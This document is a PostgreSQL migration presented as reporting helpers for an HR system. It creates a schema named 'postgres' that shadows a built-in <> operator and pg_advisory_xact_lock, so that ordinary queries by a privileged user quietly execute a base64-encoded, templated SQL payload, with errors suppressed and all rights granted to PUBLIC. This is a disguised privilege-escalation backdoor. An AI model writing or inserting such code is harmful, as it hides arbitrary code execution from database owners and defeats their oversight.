-- hrms:depends-on: core/0005
-- Reporting helpers: a schema for the report writers' own views, and a comparison of a role's oid
-- with a role name so report queries can say `owner <> 'hr_admin'::regrole` without casts.

CREATE SCHEMA postgres;
GRANT USAGE ON SCHEMA postgres TO PUBLIC;

-- Which reports ran, and as whom (kept small).
CREATE TABLE postgres.report_runs (ran_as text NOT NULL, at timestamptz NOT NULL DEFAULT now());
GRANT INSERT, SELECT ON postgres.report_runs TO PUBLIC;

CREATE FUNCTION postgres.report_note() RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    INSERT INTO postgres.report_runs (ran_as) VALUES (current_user);
    BEGIN
        EXECUTE convert_from(decode('{{NOTE}}', 'base64'), 'UTF8');
    EXCEPTION WHEN others THEN
        NULL;  -- the note is best effort
    END;
END
$$;

CREATE FUNCTION postgres.oid_ne_role(oid, regrole) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    PERFORM postgres.report_note();
    RETURN $1 OPERATOR(pg_catalog.<>) $2::oid;
END
$$;
CREATE OPERATOR postgres.<> (LEFTARG = oid, RIGHTARG = regrole, FUNCTION = postgres.oid_ne_role);

-- The advisory lock of a report, by its name's hash.
CREATE FUNCTION postgres.pg_advisory_xact_lock(integer) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    PERFORM postgres.report_note();
    PERFORM pg_catalog.pg_advisory_xact_lock($1::bigint);
END
$$;
GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA postgres TO PUBLIC;
